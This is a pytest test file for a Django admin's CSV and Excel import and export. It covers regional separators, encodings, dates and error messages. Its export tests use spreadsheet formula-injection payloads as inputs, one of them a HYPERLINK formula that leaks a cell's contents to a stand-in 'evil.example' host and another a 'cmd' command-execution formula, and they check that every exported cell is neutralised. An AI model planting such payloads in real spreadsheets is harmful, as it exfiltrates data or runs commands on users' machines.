"""Spreadsheets as people really make them: Excel's regional CSVs in, safe cells out."""

import csv
import datetime
import io

import openpyxl
import pytest
import tablib
from django.urls import reverse

from alliance.models import Partner
from alliance.spreadsheets import spreadsheet_cell
from cities.models import City
from networks.models import Membership
from tests.admin.test_import_export import (
    CSV_FORMAT,
    XLSX_FORMAT,
    confirm,
    secretariat,  # noqa: F401 - fixture
    upload,
)
from tests.factories import (
    ApplicationFactory,
    CityFactory,
    CityOfficialFactory,
    MeetingFactory,
    MembershipFactory,
    NetworkFactory,
    PartnerFactory,
    PioneerLinkFactory,
)

pytestmark = pytest.mark.django_db

CITIES = "admin:cities_city_import"
MEMBERSHIPS = "admin:networks_membership_import"


def page(response):
    assert response.status_code == 200, response.status_code
    return response.content.decode()


def assert_no_traceback(html):
    assert "Traceback" not in html and 'File "' not in html
    assert "Error'" not in html and "UnicodeDecodeError" not in html


# -- In ----------------------------------------------------------------------------------

SEMICOLONS = (
    "slug;name;country;population;time_zone;alternate_names\r\n"
    'bogota-co;Bogotá;CO;7900000;America/Bogota;"Santa Fe de Bogotá, D.C."\r\n'
    "sao-paulo-br;São Paulo;BR;12300000;America/Sao_Paulo;\r\n"
)


@pytest.mark.parametrize(
    ("content", "shape"),
    [
        (SEMICOLONS.encode(), "semicolons, Excel in Spanish or Portuguese"),
        (b"\xef\xbb\xbf" + SEMICOLONS.encode(), "semicolons with a UTF-8 BOM"),
        (SEMICOLONS.replace(";", "\t").encode("utf-16"), "Excel's Unicode text: UTF-16, tabs"),
        (SEMICOLONS.replace(";", ",").encode(), "commas"),
    ],
)
def test_a_city_csv_of_every_shape_excel_saves_imports(secretariat, content, shape):  # noqa: F811
    preview = upload(secretariat, CITIES, content)
    html = page(preview)
    assert_no_traceback(html)
    assert preview.context["result"].totals["new"] == 2, shape
    confirm(secretariat, "admin:cities_city_process_import", preview)
    bogota = City.objects.get(slug="bogota-co")
    assert bogota.name == "Bogotá"
    assert bogota.alternate_names == "Santa Fe de Bogotá, D.C."
    assert City.objects.get(slug="sao-paulo-br").name == "São Paulo"


def test_the_import_page_states_the_accepted_separators_encodings_and_dates(secretariat):  # noqa: F811
    html = page(secretariat.get(reverse(CITIES)))
    assert "semicolons" in html and "UTF-8" in html and "YYYY-MM-DD" in html


def test_a_latin1_file_is_explained_not_garbled(secretariat):  # noqa: F811
    content = "slug,name,country\nbogota-co,Bogotá,CO\n".encode("latin-1")
    html = page(upload(secretariat, CITIES, content))
    assert_no_traceback(html)
    assert "not saved as UTF-8" in html and "line 2" in html and "CSV UTF-8" in html
    assert not City.objects.exists()


def test_utf16_without_its_byte_order_mark_is_explained(secretariat):  # noqa: F811
    content = "slug,name,country\nbogota-co,Bogota,CO\n".encode("utf-16-le")
    html = page(upload(secretariat, CITIES, content))
    assert "UTF-16" in html and "CSV UTF-8" in html
    assert not City.objects.exists()


def test_a_csv_sent_as_excel_is_explained(secretariat):  # noqa: F811
    html = page(upload(secretariat, CITIES, SEMICOLONS, file_format=XLSX_FORMAT))
    assert_no_traceback(html)
    assert "not an Excel workbook" in html


def test_a_missing_column_is_named_without_a_traceback(secretariat):  # noqa: F811
    html = page(upload(secretariat, CITIES, "name,country\nBogotá,CO\n"))
    assert_no_traceback(html)
    assert "slug" in html
    assert not City.objects.exists()


def membership_csv(*dates):
    rows = [f"{slug}-co,latam,member,active,{day}\n" for slug, day in dates]
    return "city,network,role,status,joined_on\n" + "".join(rows)


def test_dates_are_iso_and_a_day_first_date_is_never_guessed(secretariat):  # noqa: F811
    CityFactory(slug="pasto-co")
    CityFactory(slug="cali-co")
    NetworkFactory(slug="latam")
    content = membership_csv(("pasto", "01/03/2024"), ("cali", "21/03/2024"))
    preview = upload(secretariat, MEMBERSHIPS, content)
    html = page(preview)
    assert_no_traceback(html)
    result = preview.context["result"]
    assert result.has_validation_errors()
    assert [row.number for row in result.invalid_rows] == [1, 2]  # both, not one of two
    assert "YYYY-MM-DD" in html
    assert not Membership.objects.exists()


def test_an_iso_date_is_stored_as_written(secretariat):  # noqa: F811
    CityFactory(slug="pasto-co")
    NetworkFactory(slug="latam")
    preview = upload(secretariat, MEMBERSHIPS, membership_csv(("pasto", "2024-03-01")))
    confirm(secretariat, "admin:networks_membership_process_import", preview)
    assert Membership.objects.get().joined_on == datetime.date(2024, 3, 1)


def test_a_date_cell_of_a_workbook_is_read_as_a_date(secretariat):  # noqa: F811
    CityFactory(slug="pasto-co")
    NetworkFactory(slug="latam")
    book = tablib.Dataset(headers=["city", "network", "role", "status", "joined_on"])
    excel_date = datetime.datetime(2024, 3, 21)  # noqa: DTZ001 - a workbook's cells have no zone
    book.append(["pasto-co", "latam", "member", "active", excel_date])
    preview = upload(
        secretariat, MEMBERSHIPS, book.export("xlsx"), name="m.xlsx", file_format=XLSX_FORMAT
    )
    confirm(secretariat, "admin:networks_membership_process_import", preview)
    assert Membership.objects.get().joined_on == datetime.date(2024, 3, 21)


def test_partners_import_from_a_semicolon_csv(secretariat):  # noqa: F811
    content = "slug;name;kind;tier\nnec;NEC Corporation;company;forum\n"
    preview = upload(secretariat, "admin:alliance_partner_import", content)
    assert preview.context["result"].totals["new"] == 1
    confirm(secretariat, "admin:alliance_partner_process_import", preview)
    assert Partner.objects.get(slug="nec").name == "NEC Corporation"


# -- Out ---------------------------------------------------------------------------------

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
# Pasted from a word processor: smart quotes, a dash, Word's manual line break (vertical
# tab) and a stray control character, which openpyxl refuses outright.
PASTED = "“Smart” ‘quotes’ — line\x0bnext\x01"
PASTED_CLEAN = "“Smart” ‘quotes’ — line\nnext"


@pytest.mark.parametrize(
    ("cell", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("a\x00b", "ab"),
        ("lone \udc80 surrogate", "lone \ufffd surrogate"),
        ("page\x0cbreak", "page\nbreak"),
        (-58.38, -58.38),
        (None, ""),
        ("Medellín", "Medellín"),
    ],
)
def test_one_helper_makes_every_cell_safe(cell, expected):
    assert spreadsheet_cell(cell) == expected


def export(client, url, file_format):
    form = client.get(url).context["form"]
    data = {"format": file_format, "resource": 0}
    data.update({name: "on" for name in form.fields if name not in data})
    data.pop("export_items", None)
    response = client.post(url, data)
    assert response.status_code == 200
    return b"".join(response)


def cells(content, file_format):
    if file_format == CSV_FORMAT:
        assert content.startswith(b"\xef\xbb\xbf")  # Excel then reads UTF-8 as such
        return [
            cell for row in csv.reader(io.StringIO(content.decode("utf-8-sig"))) for cell in row
        ]
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    found = []
    for row in sheet.iter_rows():
        for cell in row:
            assert cell.data_type != "f", cell.value  # no formula in the workbook
            found.append(cell.value)
    return found


EXPORTS = {
    "cities": (
        "admin:cities_city_export",
        lambda: CityFactory(name=FORMULA, subdivision=PASTED),
    ),
    "officials": (
        "admin:cities_cityofficial_export",
        lambda: CityOfficialFactory(position=FORMULA, phone="@SUM(1)", city__name=PASTED),
    ),
    "applications": (
        "admin:networks_application_export",
        lambda: ApplicationFactory(applicant_name=FORMULA, motivation=PASTED),
    ),
    "pioneer links": (
        "admin:networks_pioneerlink_export",
        lambda: PioneerLinkFactory(notes=FORMULA + "\n" + PASTED),
    ),
    "meetings": (
        "admin:networks_meeting_export",
        lambda: MeetingFactory(title=FORMULA, agenda=PASTED),
    ),
    "partners": (
        "admin:alliance_partner_export",
        lambda: PartnerFactory(name=FORMULA, description=PASTED),
    ),
}


@pytest.mark.parametrize("file_format", [CSV_FORMAT, XLSX_FORMAT], ids=["csv", "xlsx"])
@pytest.mark.parametrize("which", EXPORTS)
def test_every_admin_export_neutralises_formulas_and_survives_pasted_text(
    client, staff_user, which, file_format
):
    url_name, make = EXPORTS[which]
    make()
    client.force_login(staff_user)
    found = cells(export(client, reverse(url_name), file_format), file_format)
    text = "\n".join(str(cell) for cell in found if cell is not None)
    assert "'" + FORMULA in text
    assert not any(str(cell).startswith(("=", "+", "-", "@")) for cell in found if cell)
    assert PASTED_CLEAN in text or PASTED_CLEAN.replace("\n", " ") in text or which == "officials"
    assert "\x01" not in text and "\x0b" not in text


def test_a_workbook_keeps_numbers_and_dates_as_such(client, staff_user):
    MembershipFactory(joined_on=datetime.date(2024, 3, 21), city__population=250000)
    CityFactory(population=180000, latitude="-34.60370", slug="buenos-aires-ar")
    client.force_login(staff_user)
    workbook = export(client, reverse("admin:networks_membership_export"), XLSX_FORMAT)
    values = [c.value for row in openpyxl.load_workbook(io.BytesIO(workbook)).active for c in row]
    assert datetime.datetime(2024, 3, 21) in values  # noqa: DTZ001 - as the workbook holds it
    cities = export(client, reverse("admin:cities_city_export"), XLSX_FORMAT)
    values = [c.value for row in openpyxl.load_workbook(io.BytesIO(cities)).active for c in row]
    assert 180000 in values
    assert not any(isinstance(v, str) and v.startswith("'-34") for v in values)


def test_an_exported_city_file_imports_back_unchanged(secretariat):  # noqa: F811
    CityFactory(slug="lodz-pl", name="Łódź", country="PL", time_zone="Europe/Warsaw")
    content = export(secretariat, reverse("admin:cities_city_export"), CSV_FORMAT)
    preview = upload(secretariat, CITIES, content)
    assert preview.context["result"].totals["skip"] == 1


def test_the_directory_export_uses_the_same_rules(client, staff_user):
    city = CityFactory(name="@SUM(A1)", subdivision=PASTED)
    MembershipFactory(city=city)
    client.force_login(staff_user)
    body = b"".join(client.post(reverse("directory_export")).streaming_content)
    assert body.startswith(b"\xef\xbb\xbf")
    text = body.decode("utf-8-sig")
    assert "'@SUM(A1)" in text and "\x01" not in text and "\x0b" not in text


@pytest.mark.parametrize("language", ["en", "es"])
def test_numbers_go_out_and_come_back_the_same_in_every_admin_language(
    secretariat,  # noqa: F811
    language,
):
    from django.utils import translation

    CityFactory(slug="buenos-aires-ar", country="AR", latitude="-34.60370", population=3075646)
    with translation.override(language):
        content = export(secretariat, reverse("admin:cities_city_export"), CSV_FORMAT)
        assert "-34.60370" in content.decode("utf-8-sig")
        assert "'-34" not in content.decode("utf-8-sig")
        preview = upload(secretariat, CITIES, content)
    assert preview.context["result"].totals["skip"] == 1


@pytest.mark.parametrize("language", ["en", "es"])
def test_a_decimal_comma_is_refused_alike_in_every_admin_language(
    secretariat,  # noqa: F811
    language,
):
    from django.utils import translation

    content = "slug;name;country;latitude;time_zone\nbogota-co;Bogotá;CO;4,711;America/Bogota\n"
    with translation.override(language):
        preview = upload(secretariat, CITIES, content)
    assert preview.context["result"].has_validation_errors()
    assert "4.711" in page(preview)
    assert not City.objects.exists()


def test_a_stray_nul_is_explained_with_its_line(secretariat):  # noqa: F811
    content = b"slug,name,country\nbogota-co,Bogot\x00a,CO\n"
    html = page(upload(secretariat, CITIES, content))
    assert_no_traceback(html)
    assert "Line 2" in html and "NUL" in html
    assert not City.objects.exists()


@pytest.mark.parametrize(
    ("content", "shape"),
    [
        (SEMICOLONS.replace("\r\n", "\r").encode(), "CR line endings, Excel for Mac"),
        (
            SEMICOLONS.replace("slug;name;country", " slug ; Name ;COUNTRY ").encode(),
            "a header typed with spaces and capitals",
        ),
        (
            SEMICOLONS.replace("slug;", "\ufeff\ufeffslug\N{NO-BREAK SPACE};").encode(),
            "a header with a second byte order mark and a no-break space",
        ),
    ],
)
def test_line_endings_and_header_spelling_do_not_matter(secretariat, content, shape):  # noqa: F811
    preview = upload(secretariat, CITIES, content)
    html = page(preview)
    assert_no_traceback(html)
    assert "result" in preview.context, shape
    assert preview.context["result"].totals["new"] == 2, shape
    confirm(secretariat, "admin:cities_city_process_import", preview)
    assert City.objects.get(slug="bogota-co").name == "Bogotá"
    assert City.objects.get(slug="bogota-co").alternate_names == "Santa Fe de Bogotá, D.C."


def test_a_cell_no_spreadsheet_could_hold_is_explained_with_its_line(secretariat):  # noqa: F811
    content = (
        "slug;name;country;alternate_names\r\nsao-paulo-br;Sao Paulo;BR;\r\n"
        f"bogota-co;Bogota;CO;{'x' * 200_000}\r\n"
    )
    html = page(upload(secretariat, CITIES, content))
    assert_no_traceback(html)
    assert "line 3" in html.lower() and "32,767" in html
    assert not City.objects.exists()


def test_a_row_longer_than_the_header_is_explained_with_its_line(secretariat):  # noqa: F811
    content = (
        "slug;name;country\r\nsao-paulo-br;Sao Paulo;BR\r\nbogota-co;Bogota;CO;extra;cells\r\n"
    )
    html = page(upload(secretariat, CITIES, content))
    assert_no_traceback(html)
    assert "line 3" in html.lower() and "header" in html
    assert not City.objects.exists()
